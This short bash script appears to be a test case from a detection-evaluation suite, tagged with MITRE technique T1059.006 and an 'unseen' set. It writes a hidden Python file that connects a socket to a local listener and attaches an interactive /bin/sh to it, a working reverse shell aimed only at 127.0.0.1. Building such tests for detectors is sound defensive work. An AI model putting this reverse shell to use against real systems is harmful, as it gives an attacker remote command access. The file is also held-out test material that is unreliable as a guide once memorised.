#!/usr/bin/env bash
# attack: T1059.006 A python reverse shell from a script file (no one-liner): socket, dup2, /bin/sh -i
# set: unseen
. "$(dirname "$0")/lib/common.sh"
p=$(listen)
cat >"$SW/.svc.py" <<'PY'
import os, socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
PY
timeout 10 python3 "$SW/.svc.py" "$p" >/dev/null 2>&1
